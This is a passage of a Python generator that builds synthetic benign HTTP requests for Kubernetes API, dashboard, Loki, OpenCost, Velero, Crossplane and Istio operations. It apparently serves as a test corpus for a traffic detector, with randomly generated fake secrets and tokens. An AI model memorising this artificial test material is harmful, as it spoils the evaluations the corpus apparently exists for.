    bearer_token_file: /var/run/secrets/kubernetes.io/serviceaccount/token
    tls_config:
      ca_file: /var/run/secrets/kubernetes.io/serviceaccount/ca.crt
    relabel_configs:
      - source_labels: [__meta_kubernetes_pod_annotation_prometheus_io_scrape]
        action: keep
        regex: "true"
      - source_labels: [__address__, __meta_kubernetes_pod_annotation_prometheus_io_port]
        action: replace
        regex: ([^:]+)(?::\\d+)?;(\\d+)
        replacement: $1:$2
        target_label: __address__
      - action: labelmap
        regex: __meta_kubernetes_pod_label_(.+)
remote_write:
  - url: http://mimir-distributor.monitoring.svc.cluster.local:8080/api/v1/push
    headers:
      X-Scope-OrgID: %s
    write_relabel_configs:
      - source_labels: [__name__]
        regex: "go_gc_.*|apiserver_request_duration_seconds_bucket"
        action: drop
"""

NGINX_CONF = """server {
    listen 8080;
    server_name _;
    root /var/www/html;
    index index.php index.html;

    location / {
        try_files $uri $uri/ /index.php?$query_string;
    }

    location ~ \\.php$ {
        fastcgi_pass   127.0.0.1:9000;
        fastcgi_param  SCRIPT_FILENAME $document_root$fastcgi_script_name;
        include        fastcgi_params;
    }

    location ~ /\\.(?!well-known).* {
        deny all;
    }

    location /healthz { access_log off; return 200 "ok\\n"; }
}
"""

ALLOY_CONFIG = """discovery.kubernetes "pods" {
  role = "pod"
}

loki.source.kubernetes "pods" {
  targets    = discovery.kubernetes.pods.targets
  forward_to = [loki.process.drop_health.receiver]
}

loki.process "drop_health" {
  stage.drop {
    expression = ".*GET /(healthz|readyz|metrics) HTTP.*"
  }
  forward_to = [loki.write.default.receiver]
}

loki.write "default" {
  endpoint {
    url = "http://loki-gateway.observability.svc.cluster.local/loki/api/v1/push"
    tenant_id = "%s"
  }
}

prometheus.remote_write "mimir" {
  endpoint {
    url = "http://mimir-nginx.mimir.svc:80/api/v1/push"
  }
}
"""

ENTRYPOINT_SH = """#!/bin/sh
set -eu
: "${DB_HOST:?DB_HOST must be set}"
until nc -z "$DB_HOST" "${DB_PORT:-5432}"; do
  echo "$(date -Iseconds) waiting for $DB_HOST" >&2
  sleep 2
done
if [ -f /docker-entrypoint-initdb.d/init.sql ]; then
  psql "postgresql://$DB_USER:$DB_PASSWORD@$DB_HOST/$DB_NAME" -v ON_ERROR_STOP=1 -f /docker-entrypoint-initdb.d/init.sql
fi
exec java $JAVA_OPTS -jar /app/app.jar "$@"
"""

INIT_SQL = """CREATE EXTENSION IF NOT EXISTS pg_stat_statements;
CREATE ROLE readonly NOLOGIN;
GRANT USAGE ON SCHEMA public TO readonly;
GRANT SELECT ON ALL TABLES IN SCHEMA public TO readonly;
ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO readonly;
-- reporting view used by Grafana
CREATE OR REPLACE VIEW daily_orders AS
  SELECT date_trunc('day', created_at) AS day, count(*) AS n, sum(total_cents) AS total
  FROM orders WHERE status <> 'cancelled' GROUP BY 1;
"""


def gen_kubeapi(n):
    for i in range(n):
        host, pfx, hdrs = kube_client()
        ns = pick(NAMESPACES)
        app = pick(APPS)
        k = i % 16
        if k == 0:
            p = [("labelSelector", pick(["app.kubernetes.io/name=%s" % app, "app.kubernetes.io/instance in (blue,green),tier!=cache", "!job-name", "environment notin (dev),app.kubernetes.io/part-of=shop"])), ("limit", "500")]
            if chance(0.4):
                p.append(("fieldSelector", pick(["status.phase!=Running", "spec.nodeName=ip-10-2-14-7.eu-west-1.compute.internal", "metadata.name!=kube-root-ca.crt"])))
            B("kubeapi-list", "GET", pfx + "/api/v1/namespaces/%s/pods?%s" % (ns, qs(p)), host, hdrs)
        elif k == 1:
            B("kubeapi-watch", "GET", pfx + "/apis/apps/v1/namespaces/%s/deployments?%s" % (ns, qs([("watch", "1"), ("resourceVersion", str(R.randint(10 ** 6, 10 ** 9))), ("allowWatchBookmarks", "true"), ("timeoutSeconds", str(R.randint(300, 600)))])), host, hdrs)
        elif k == 2:
            pod = "%s-%s-%s" % (app, rhex(9), rstr(5, LOWER_ALNUM))
            B("kubeapi-logs", "GET", pfx + "/api/v1/namespaces/%s/pods/%s/log?%s" % (ns, pod, qs([("container", pick([app, "istio-proxy", "wait-for-postgres"])), ("tailLines", pick(["100", "1000"])), ("timestamps", "true"), ("previous", pick(["true", "false"])), ("follow", pick(["true", "false"]))])), host, hdrs)
        elif k == 3:
            pod = "%s-%s-%s" % (app, rhex(9), rstr(5, LOWER_ALNUM))
            cmd = rot("execcmd", [["sh", "-c", "clear; (bash || ash || sh)"], ["/bin/sh"], ["sh", "-c", "cat /etc/os-release; env | grep -v PASSWORD | sort"], ["psql", "-U", "postgres", "-c", "SELECT pid, state, query FROM pg_stat_activity WHERE state <> 'idle';"],
                        ["redis-cli", "INFO", "replication"], ["java", "-XX:+PrintFlagsFinal", "-version"]])
            p = [("container", app)] + [("command", c) for c in cmd] + [("stdin", "1"), ("stdout", "1"), ("stderr", "1"), ("tty", "1")]
            ws_hdrs = [h for h in hdrs if h[0] != "Accept"] + [("Connection", "Upgrade"), ("Upgrade", "websocket"), ("Sec-WebSocket-Version", "13"), ("Sec-WebSocket-Key", b64(rbytes(16))),
                                                             ("Sec-WebSocket-Protocol", pick(["v4.channel.k8s.io", "v5.channel.k8s.io, v4.channel.k8s.io", "base64.channel.k8s.io"]))]
            B("kubeapi-exec", "GET", pfx + "/api/v1/namespaces/%s/pods/%s/exec?%s" % (ns, pod, qs(p)), host, ws_hdrs)
        elif k == 4:
            body = dumps({"spec": {"replicas": R.randint(0, 10)}}, "compact")
            B("kubeapi-patch", "PATCH", pfx + "/apis/apps/v1/namespaces/%s/deployments/%s/scale" % (ns, app), host, hdrs, body, "application/merge-patch+json")
        elif k == 5:
            body = dumps({"spec": {"template": {"metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": iso_ts()}}}}}, "compact")
            B("kubeapi-patch", "PATCH", pfx + "/apis/apps/v1/namespaces/%s/%s/%s?fieldManager=kubectl-rollout" % (ns, pick(["deployments", "statefulsets", "daemonsets"]), app), host, hdrs, body, "application/strategic-merge-patch+json")
        elif k == 6:
            ops = [{"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": image(app)},
                   {"op": "add", "path": "/metadata/labels/version", "value": "1.4.%d" % R.randint(0, 9)},
                   {"op": "add", "path": "/metadata/annotations/app.kubernetes.io~1managed-by", "value": "headlamp"},
                   {"op": "remove", "path": "/spec/template/spec/containers/0/env/%d" % R.randint(0, 5)},
                   {"op": "test", "path": "/metadata/resourceVersion", "value": str(R.randint(10 ** 6, 10 ** 8))},
                   {"op": "replace", "path": "/spec/template/spec/containers/0/command", "value": ["/bin/sh", "-c", "exec /app/server --config /etc/app/config.yaml 2>&1 | tee -a /var/log/app/server.log"]}]
            body = dumps(R.sample(ops, R.randint(1, 3)), "compact")
            B("kubeapi-patch", "PATCH", pfx + "/apis/apps/v1/namespaces/%s/deployments/%s" % (ns, app), host, hdrs, body, "application/json-patch+json")
        elif k == 7:
            st = pick(["opaque", "docker", "kubeconfig", "argocd-cluster", "tls"])
            meta = {"name": app + "-" + st, "namespace": ns, "labels": {"app.kubernetes.io/name": app}}
            if st == "opaque":
                sec = {"apiVersion": "v1", "kind": "Secret", "metadata": meta, "type": "Opaque", "data": {"DATABASE_URL": b64("postgres://%s:%s@%s-pg-rw.%s.svc.cluster.local:5432/app" % (app, rstr(16), app, ns)), "application.yaml": b64("spring:\n  datasource:\n    url: jdbc:postgresql://pg:5432/app\n    password: ${DB_PASSWORD}\n")}}
            elif st == "docker":
                auth = b64("robot$%s+pull:%s" % (pick(TEAMS), rstr(32)))
                sec = {"apiVersion": "v1", "kind": "Secret", "metadata": meta, "type": "kubernetes.io/dockerconfigjson", "data": {".dockerconfigjson": b64(json.dumps({"auths": {"harbor.acme.io": {"auth": auth}}}))}}
            elif st == "kubeconfig":
                sec = {"apiVersion": "v1", "kind": "Secret", "metadata": meta, "type": "Opaque", "stringData": {"kubeconfig": kubeconfig_yaml()}}
            elif st == "argocd-cluster":
                meta = {"name": "cluster-" + pick(CLUSTERS), "namespace": "argocd", "labels": {"argocd.argoproj.io/secret-type": "cluster"}}
                sec = {"apiVersion": "v1", "kind": "Secret", "metadata": meta, "type": "Opaque", "stringData": {"name": pick(CLUSTERS), "server": "https://api.%s.k8s.acme.io:6443" % pick(CLUSTERS),
                                                                                                        "config": json.dumps({"bearerToken": sa_token("kube-system", "argocd-manager"), "tlsClientConfig": {"insecure": False, "caData": b64(pem_cert())}})}}
            else:
                sec = {"apiVersion": "v1", "kind": "Secret", "metadata": meta, "type": "kubernetes.io/tls", "data": {"tls.crt": b64(pem_cert()), "tls.key": b64("-----BEGIN PRIVATE KEY-----\n" + b64(rbytes(120)) + "\n-----END PRIVATE KEY-----\n")}}
            B("kubeapi-secret", "POST", pfx + "/api/v1/namespaces/%s/secrets?fieldManager=%s" % (meta["namespace"], pick(["kubectl-create", "headlamp", "kubectl-client-side-apply"])), host, hdrs, dumps(sec, "compact"), "application/json")
        elif k == 8:
            cr = pick([{"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": "argocd-application-controller", "labels": {"app.kubernetes.io/part-of": "argocd"}},
                        "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}, {"nonResourceURLs": ["*"], "verbs": ["*"]}]},
                       {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": "prometheus-k8s"},
                        "rules": [{"apiGroups": [""], "resources": ["nodes", "nodes/metrics", "services", "endpoints", "pods"], "verbs": ["get", "list", "watch"]}, {"nonResourceURLs": ["/metrics", "/metrics/cadvisor"], "verbs": ["get"]}]},
                       {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": {"name": "ci-deployer", "namespace": ns},
                        "rules": [{"apiGroups": ["", "apps", "batch"], "resources": ["*"], "verbs": ["*"]}, {"apiGroups": [""], "resources": ["pods/exec", "pods/portforward"], "verbs": ["create"]}]},
                       {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": {"name": pick(TEAMS) + "-admin", "namespace": ns},
                        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "admin"}, "subjects": [{"kind": "Group", "name": "oidc:" + pick(TEAMS), "apiGroup": "rbac.authorization.k8s.io"}]},
                       {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "argocd-application-controller"},
                        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "argocd-application-controller"}, "subjects": [{"kind": "ServiceAccount", "name": "argocd-application-controller", "namespace": "argocd"}]}])
            plural = {"ClusterRole": "clusterroles", "Role": "roles", "RoleBinding": "rolebindings", "ClusterRoleBinding": "clusterrolebindings"}[cr["kind"]]
            path = "/apis/rbac.authorization.k8s.io/v1/" + ("namespaces/%s/" % ns if cr["kind"] in ("Role", "RoleBinding") else "") + plural
            B("kubeapi-rbac", "POST", pfx + path, host, hdrs, dumps(cr, "compact"), "application/json")
        elif k == 9:
            data = rot("cmdata", [{"prometheus.yml": PROM_CONFIG % (pick(CLUSTERS), pick(TEAMS))}, {"default.conf": NGINX_CONF}, {"config.alloy": ALLOY_CONFIG % pick(TEAMS)},
                         {"entrypoint.sh": ENTRYPOINT_SH, "init.sql": INIT_SQL}, {"Corefile": ".:53 {\n    errors\n    health { lameduck 5s }\n    ready\n    kubernetes cluster.local in-addr.arpa ip6.arpa {\n       pods insecure\n       fallthrough in-addr.arpa ip6.arpa\n    }\n    rewrite name regex (.*)\\.corp\\.acme\\.io {1}.platform.svc.cluster.local\n    forward . /etc/resolv.conf { max_concurrent 1000 }\n    cache 30\n    loop\n    reload\n}\n"}])
            first = sorted(data)[0]
            cm_name, cm_ns = {"prometheus.yml": ("prometheus-config", "monitoring"), "default.conf": ("nginx-conf", ns), "config.alloy": ("alloy", "monitoring"),
                              "entrypoint.sh": ("app-scripts", ns), "Corefile": ("coredns-custom", "kube-system")}.get(first, ("app-config", ns))
            cm = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": cm_name, "namespace": cm_ns}, "data": data}
            if chance(0.5):
                B("kubeapi-configmap", "PUT", pfx + "/api/v1/namespaces/%s/configmaps/%s" % (cm["metadata"]["namespace"], cm["metadata"]["name"]), host, hdrs, dumps(cm, "compact"), "application/json")
            else:
                B("kubeapi-configmap", "POST", pfx + "/api/v1/namespaces/%s/configmaps" % cm["metadata"]["namespace"], host, hdrs, dumps(cm, "compact"), "application/json")
        elif k == 10:
            # kubectl create -f with YAML body
            job = "apiVersion: batch/v1\nkind: Job\nmetadata:\n  generateName: db-migrate-\n  namespace: %s\nspec:\n  backoffLimit: 2\n  ttlSecondsAfterFinished: 3600\n  template:\n    spec:\n      restartPolicy: Never\n      containers:\n        - name: migrate\n          image: %s\n          command: [\"/bin/sh\", \"-c\"]\n          args:\n            - |\n              set -e\n              echo \"running migrations against $DATABASE_URL\"\n              ./manage migrate --database \"$DATABASE_URL\" && ./manage seed --only=feature_flags\n          envFrom:\n            - secretRef:\n                name: %s-db\n" % (ns, image(app), app)
            B("kubeapi-yaml", "POST", pfx + "/apis/batch/v1/namespaces/%s/jobs" % ns, host, [h for h in hdrs if h[0] != "Accept"] + [("Accept", "application/json, */*")], job, pick(["application/yaml", "application/yaml"]))
        elif k == 11:
            ssa = "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: %s\n  namespace: %s\nspec:\n  template:\n    spec:\n      containers:\n        - name: %s\n          image: %s\n          args: [\"--log-format=json\", \"--otel-endpoint=http://otel-collector.observability.svc:4317\"]\n" % (app, ns, app, image(app))
            B("kubeapi-apply", "PATCH", pfx + "/apis/apps/v1/namespaces/%s/deployments/%s?fieldManager=kubectl&force=true" % (ns, app), host, hdrs, ssa, "application/apply-patch+yaml")
        elif k == 12:
            body = dumps({"kind": "DeleteOptions", "apiVersion": "v1", "propagationPolicy": pick(["Foreground", "Background", "Orphan"]), "gracePeriodSeconds": pick([0, 30])}, "compact")
            B("kubeapi-delete", "DELETE", pfx + "/api/v1/namespaces/%s/pods/%s-%s-%s" % (ns, app, rhex(9), rstr(5, LOWER_ALNUM)), host, hdrs, body, "application/json")
        elif k == 13:
            B("kubeapi-list", "GET", pfx + pick(["/api/v1/namespaces/%s/events?fieldSelector=%s&limit=500" % (ns, enc("involvedObject.kind=Pod,type=Warning")),
                                                "/apis/metrics.k8s.io/v1beta1/namespaces/%s/pods" % ns, "/api/v1/nodes?labelSelector=%s" % enc("node-role.kubernetes.io/worker,topology.kubernetes.io/zone in (eu-west-1a,eu-west-1b)"),
                                                "/apis/apiextensions.k8s.io/v1/customresourcedefinitions?limit=500", "/api/v1/namespaces/%s/secrets?limit=500" % ns,
                                                "/openapi/v3/apis/apps/v1", "/api?timeout=32s", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews"]), host, hdrs)
        elif k == 14:
            body = dumps({"kind": "SelfSubjectAccessReview", "apiVersion": "authorization.k8s.io/v1", "spec": {"resourceAttributes": {"namespace": ns, "verb": pick(["create", "delete", "*"]), "group": pick(["", "apps"]), "resource": pick(["pods/exec", "secrets", "deployments", "*"])}}}, "compact")
            B("kubeapi-authz", "POST", pfx + "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", host, hdrs, body, "application/json")
        else:
            # Kubernetes Dashboard native API
            dh = host_for("dashboard")
            hh = browser_headers(extra=[("Authorization", bearer()), ("X-CSRF-TOKEN", rstr(40, ALNUM + "_-"))])
            if chance(0.5):
                B("k8s-dashboard", "GET", pick(["/api/v1/pod/%s?itemsPerPage=10&page=1&sortBy=d,creationTimestamp" % ns, "/api/v1/_raw/secret/namespace/%s/name/%s-db" % (ns, app), "/api/v1/log/%s/%s-%s/%s?logFilePosition=end&referenceTimestamp=newest&referenceLineNum=0&offsetFrom=2000000000&offsetTo=2000000100&previous=false" % (ns, app, rstr(5, LOWER_ALNUM), app)]), dh, hh)
            else:
                content = "apiVersion: v1\nkind: Service\nmetadata:\n  name: %s\n  namespace: %s\nspec:\n  selector:\n    app.kubernetes.io/name: %s\n  ports:\n    - name: http\n      port: 80\n      targetPort: http\n" % (app, ns, app)
                B("k8s-dashboard", "POST", "/api/v1/appdeployment/file", dh, hh, dumps({"name": "", "namespace": ns, "content": content, "validate": True}, "compact"), "application/json")


# ===========================================================================
# BENIGN: Loki, OpenCost, Velero, Crossplane, service mesh
# ===========================================================================

LOG_LINES = [
    'level=error ts=%s caller=repo.go:212 msg="query failed" err="pq: duplicate key value violates unique constraint \\"orders_pkey\\"" query="INSERT INTO orders (id, tenant_id, total_cents) VALUES ($1, $2, $3)"',
    '10.2.3.4 - - [01/May/2024:10:00:00 +0000] "GET /api/v1/orders?limit=50&cursor=eyJpZCI6MTIzfQ%%3D%%3D HTTP/1.1" 200 5120 "-" "Mozilla/5.0 (X11; Linux x86_64)" 512 0.043 [payments-cart-api-8080] [] 10.4.2.17:8080 5120 0.042 200 %s',
    '{"level":"warn","ts":"%s","logger":"hikari","msg":"Connection is not available, request timed out after 30000ms.","pool":"HikariPool-1"}',
    'time="%s" level=info msg="Executing: /bin/sh -c \'pg_dump -Fc orders > /backup/orders.dump\'" component=backup',
    '%s WARN  [main] o.s.b.a.j.DataSourceHealthIndicator : DataSource health check failed: Connection to cart-db.payments.svc.cluster.local:5432 refused',
    '[%s] ERROR in app: Exception on /api/report [GET]\nTraceback (most recent call last):\n  File "/app/report.py", line 88, in render\n    cur.execute("SELECT * FROM invoices WHERE tenant = %%s", (tenant,))\npsycopg2.errors.UndefinedTable: relation "invoices" does not exist',
    '10.2.9.1 - - [01/May/2024:10:00:02 +0000] "GET /wp-login.php HTTP/1.1" 404 153 "-" "Mozilla/5.0" 210 0.001 [web-web-frontend-80] [] - - - - %s',
    'ts=%s level=debug msg="rendering template" template="{{ .Values.image.repository }}:{{ .Values.image.tag }}"',
]


def gen_loki(n):
    for i in range(n):
        k = i % 4
        host = host_for("loki")
        if k in (0, 1, 2):
            streams = []
            for _ in range(R.randint(1, 2)):
                ns = pick(NAMESPACES)
                vals = []
                for _ in range(R.randint(1, 3)):
                    ln = rot("loglines", LOG_LINES)
                    ln = ln % iso_ts() if "%s" in ln.replace("%%", "") else ln
                    vals.append([str((1714500000 + R.randint(0, 99999)) * 10 ** 9 + R.randint(0, 10 ** 9 - 1)), ln])
                streams.append({"stream": {"namespace": ns, "pod": "%s-%s" % (pick(APPS), rstr(5, LOWER_ALNUM)), "container": "main", "cluster": pick(CLUSTERS), "job": ns + "/" + pick(APPS)}, "values": vals})
            hdrs = [("User-Agent", pick(["promtail/2.9.7", "GrafanaAgent/v0.40.4", "Alloy/v1.0.0 (linux; helm)", "fluent-bit/3.0.3", "Vector/0.37.1"])), ("X-Scope-OrgID", pick(TEAMS + ["fake"]))]
            B("loki-push", "POST", "/loki/api/v1/push", host, hdrs, dumps({"streams": streams}, "compact"), "application/json")
        else:
            p = [("query", logql()), ("start", str((1714500000 + R.randint(0, 99999)) * 10 ** 9)), ("end", str((1714600000 + R.randint(0, 99999)) * 10 ** 9)), ("limit", "1000"), ("direction", "backward")]
            B("loki-query", "GET", "/loki/api/v1/query_range?" + qs(p, plus=True), host, std_headers(pick(UA_GRAFANA + ["logcli/2.9.7"]), extra=[("X-Scope-OrgID", pick(TEAMS))]))


def gen_opencost(n):
    for i in range(n):
        host = host_for("opencost")
        p = pick([[("window", pick(["7d", "24h", "yesterday", "2024-04-01T00:00:00Z,2024-05-01T00:00:00Z"])), ("aggregate", pick(["namespace", "namespace,label:team", "controller", "cluster,namespace"])), ("accumulate", "true"),
                   ("filter", pick(['namespace:"payments"+cluster:"prod-eu1"', 'label[app]:"cart-api"', 'namespace!:"kube-system","monitoring"', 'controllerKind:"deployment"']))],
                  [("window", "30d"), ("aggregate", "namespace"), ("shareIdle", "weighted"), ("includeIdle", "true"), ("format", "csv")]])
        path = pick(["/allocation/compute?", "/allocation?", "/model/allocation/summary?", "/assets?"]) + qs(p)
        B("opencost", "GET", path, host, std_headers(pick(UA_GRAFANA + UA_BROWSERS[:2] + ["kubectl-cost/0.5.1"])))


def gen_velero_crossplane(n):
    for i in range(n):
        host, pfx, hdrs = kube_client()
        k = i % 6
        ns = pick(NAMESPACES)
        if k == 0:
            bk = {"apiVersion": "velero.io/v1", "kind": "Backup", "metadata": {"name": "%s-manual-%s" % (ns, rstr(6, LOWER_ALNUM)), "namespace": "velero"},
                  "spec": {"includedNamespaces": [ns], "excludedResources": ["events", "events.events.k8s.io"], "snapshotVolumes": True, "defaultVolumesToFsBackup": False, "ttl": "720h0m0s", "storageLocation": "default",
                           "hooks": {"resources": [{"name": "pg-freeze", "includedNamespaces": [ns], "labelSelector": {"matchLabels": {"app.kubernetes.io/name": "postgresql"}},
                                                    "pre": [{"exec": {"container": "postgresql", "command": ["/bin/bash", "-c", "PGPASSWORD=$POSTGRES_PASSWORD psql -U postgres -c 'CHECKPOINT;' && sync"], "onError": "Fail", "timeout": "60s"}}],
                                                    "post": [{"exec": {"container": "postgresql", "command": ["/bin/sh", "-c", "echo backup done >> /proc/1/fd/1"]}}]}]}}}
            B("velero", "POST", pfx + "/apis/velero.io/v1/namespaces/velero/backups", host, hdrs, dumps(bk, "compact"), "application/json")
        elif k == 1:
            rs = {"apiVersion": "velero.io/v1", "kind": "Restore", "metadata": {"name": "restore-" + rstr(8, LOWER_ALNUM), "namespace": "velero"},
                  "spec": {"backupName": "daily-" + rstr(14, "0123456789"), "includedNamespaces": [ns], "namespaceMapping": {ns: ns + "-restore"}, "restorePVs": True, "existingResourcePolicy": "update",
                           "hooks": {"resources": [{"name": "restore-hook", "postHooks": [{"init": {"initContainers": [{"name": "restore-perms", "image": "alpine:3.19", "command": ["/bin/ash", "-c", "chown -R 999:999 /var/lib/postgresql/data && ls -la /var/lib/postgresql/data"]}]}}]}]}}}
            B("velero", "POST", pfx + "/apis/velero.io/v1/namespaces/velero/restores", host, hdrs, dumps(rs, "compact"), "application/json")
        elif k == 2:
            sc = {"apiVersion": "velero.io/v1", "kind": "Schedule", "metadata": {"name": "daily-" + ns, "namespace": "velero", "annotations": {"pre.hook.backup.velero.io/command": "[\"/sbin/fsfreeze\", \"--freeze\", \"/var/lib/postgresql/data\"]"}},
                  "spec": {"schedule": pick(["0 1 * * *", "@every 6h", "CRON_TZ=Europe/Berlin 30 2 * * *"]), "template": {"includedNamespaces": [ns], "ttl": "168h0m0s"}, "useOwnerReferencesInBackup": False}}
            B("velero", "POST", pfx + "/apis/velero.io/v1/namespaces/velero/schedules", host, hdrs, dumps(sc, "compact"), "application/json")
        elif k == 3:
            xr = {"apiVersion": "database.acme.io/v1alpha1", "kind": "PostgreSQLInstance", "metadata": {"name": pick(APPS) + "-db", "namespace": ns},
                  "spec": {"parameters": {"storageGB": R.choice([20, 50, 100]), "version": "16", "instanceClass": pick(["db.t4g.medium", "db.r6g.large"])}, "compositionSelector": {"matchLabels": {"provider": "aws", "env": "prod"}},
                           "writeConnectionSecretToRef": {"name": pick(APPS) + "-db-conn"}}}
            B("crossplane", "POST", pfx + "/apis/database.acme.io/v1alpha1/namespaces/%s/postgresqlinstances" % ns, host, hdrs, dumps(xr, "compact"), "application/json")
        elif k == 4:
            tmpl = "{{ $xr := .observed.composite.resource }}\n{{- range $i, $az := list \"a\" \"b\" \"c\" }}\n---\napiVersion: ec2.aws.upbound.io/v1beta1\nkind: Subnet\nmetadata:\n  annotations:\n    gotemplating.fn.crossplane.io/composition-resource-name: subnet-{{ $az }}\nspec:\n  forProvider:\n    cidrBlock: {{ printf \"10.%d.%d.0/24\" ($xr.spec.parameters.octet | int) $i }}\n    availabilityZone: {{ $xr.spec.parameters.region }}{{ $az }}\n{{- end }}\n"
            comp = {"apiVersion": "apiextensions.crossplane.io/v1", "kind": "Composition", "metadata": {"name": "xnetworks.aws.acme.io"},
                    "spec": {"compositeTypeRef": {"apiVersion": "aws.acme.io/v1alpha1", "kind": "XNetwork"}, "mode": "Pipeline",
                             "pipeline": [{"step": "render", "functionRef": {"name": "function-go-templating"}, "input": {"apiVersion": "gotemplating.fn.crossplane.io/v1beta1", "kind": "GoTemplate", "source": "Inline", "inline": {"template": tmpl}}},
                                          {"step": "patch", "functionRef": {"name": "function-patch-and-transform"}, "input": {"apiVersion": "pt.fn.crossplane.io/v1beta1", "kind": "Resources", "resources": [
                                              {"name": "rds", "base": {"apiVersion": "rds.aws.upbound.io/v1beta1", "kind": "Instance"}, "patches": [{"type": "FromCompositeFieldPath", "fromFieldPath": "spec.parameters.storageGB", "toFieldPath": "spec.forProvider.allocatedStorage"},
                                                                                                                                                   {"type": "FromCompositeFieldPath", "fromFieldPath": "metadata.labels[crossplane.io/claim-name]", "toFieldPath": "spec.forProvider.dbName", "transforms": [{"type": "string", "string": {"type": "Format", "fmt": "%s_db"}}]}]}]}}]}}
            B("crossplane", "POST", pfx + "/apis/apiextensions.crossplane.io/v1/compositions", host, hdrs, dumps(comp, "compact"), "application/json")
        else:
            se = pick([{"apiVersion": "networking.istio.io/v1beta1", "kind": "ServiceEntry", "metadata": {"name": "legacy-db", "namespace": ns}, "spec": {"hosts": ["payments-db.internal.acme.io"], "ports": [{"number": 5432, "name": "tcp-pg", "protocol": "TCP"}], "resolution": "DNS", "location": "MESH_EXTERNAL"}},
                       {"apiVersion": "networking.istio.io/v1beta1", "kind": "DestinationRule", "metadata": {"name": pick(APPS), "namespace": ns}, "spec": {"host": "%s.%s.svc.cluster.local" % (pick(APPS), ns), "trafficPolicy": {"tls": {"mode": "ISTIO_MUTUAL"}, "outlierDetection": {"consecutive5xxErrors": 5, "interval": "10s", "baseEjectionTime": "30s"}},
                                                                                                                                                                     "subsets": [{"name": "v1", "labels": {"version": "v1"}}, {"name": "v2", "labels": {"version": "v2"}}]}},
                       {"apiVersion": "security.istio.io/v1", "kind": "AuthorizationPolicy", "metadata": {"name": "allow-frontend", "namespace": ns}, "spec": {"action": "ALLOW", "rules": [{"from": [{"source": {"principals": ["cluster.local/ns/web/sa/web-frontend"]}}], "to": [{"operation": {"methods": ["GET", "POST"], "paths": ["/api/*", "/healthz"], "notPaths": ["/api/admin/*"]}}]}]}},
                       {"apiVersion": "monitoring.coreos.com/v1", "kind": "PrometheusRule", "metadata": {"name": pick(APPS) + "-slo", "namespace": ns}, "spec": {"groups": [{"name": "slo", "rules": [{"alert": "HighErrorRatio", "expr": promql(), "for": "5m", "labels": {"severity": "critical"}, "annotations": {"summary": "{{ $labels.service }} error ratio {{ $value | humanizePercentage }}"}}]}]}}])
            group_ver = se["apiVersion"]
            plural = {"ServiceEntry": "serviceentries", "DestinationRule": "destinationrules", "AuthorizationPolicy": "authorizationpolicies", "PrometheusRule": "prometheusrules"}[se["kind"]]
            B("mesh-config", "POST", pfx + "/apis/%s/namespaces/%s/%s" % (group_ver, ns, plural), host, hdrs, dumps(se, "compact"), "application/json")


# ===========================================================================
# BENIGN: multipart uploads
# ===========================================================================

def multipart(parts, boundary=None):
    boundary = boundary or pick(["----WebKitFormBoundary" + rstr(16), "------------------------" + rstr(16, "0123456789abcdef"), rhex(30)])
    out = []
    for name, filename, ctype, content in parts:
        out.append("--" + boundary)
        disp = 'Content-Disposition: form-data; name="%s"' % name
        if filename:
            disp += '; filename="%s"' % filename
        out.append(disp)
        if ctype:
            out.append("Content-Type: " + ctype)
        out.append("")
        out.append(content)
    out.append("--" + boundary + "--")
    return "\r\n".join(out) + "\r\n", "multipart/form-data; boundary=" + boundary


def gen_multipart(n):
    for i in range(n):
        k = i % 3
        if k == 0:
            body, ct = multipart([("keystoreFormat", None, None, pick(["Certificate PEM", "Public Key PEM", "JSON Web Key Set"])), ("file", "saml-signing.pem", "application/x-x509-ca-cert", pem_cert())])
            B("keycloak-upload", "POST", "/admin/realms/%s/clients/%s/certificates/saml.signing/upload-certificate" % (pick(["platform", "acme"]), ruuid()), host_for("keycloak"), kc_headers(), body, ct)
        elif k == 1:
            app = pick(APPS)
            chart_yaml = "apiVersion: v2\nname: %s\nversion: 1.4.%d\nappVersion: \"1.4.2\"\ndependencies:\n  - name: postgresql\n    version: 15.x.x\n    repository: oci://registry-1.docker.io/bitnamicharts\n    condition: postgresql.enabled\n" % (app, R.randint(0, 9))
            prov = "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\n%s\n...\nfiles:\n  %s-1.4.2.tgz: sha256:%s\n-----BEGIN PGP SIGNATURE-----\n\n%s\n-----END PGP SIGNATURE-----" % (chart_yaml, app, rhex(64), b64(rbytes(120)))
            body, ct = multipart([("prov", "%s-1.4.2.tgz.prov" % app, "application/octet-stream", prov)])
            B("harbor-upload", "POST", "/api/chartrepo/%s/prov" % pick(TEAMS), host_for("harbor"), harbor_headers(), body, ct)
        else:
            ent = pick(["https://sts.windows.net/%s/" % ruuid(), "http://www.okta.com/exk%s" % rstr(17), "https://idp.partner.example.com/saml2/idp/metadata.php"])
            md = """<?xml version="1.0" encoding="UTF-8"?>
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" xmlns:ds="http://www.w3.org/2000/09/xmldsig#" entityID="%s">
  <md:IDPSSODescriptor WantAuthnRequestsSigned="false" protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">
    <md:KeyDescriptor use="signing">
      <ds:KeyInfo><ds:X509Data><ds:X509Certificate>%s</ds:X509Certificate></ds:X509Data></ds:KeyInfo>
    </md:KeyDescriptor>
    <md:NameIDFormat>urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress</md:NameIDFormat>
    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="https://login.partner.example.com/saml2/sso"/>
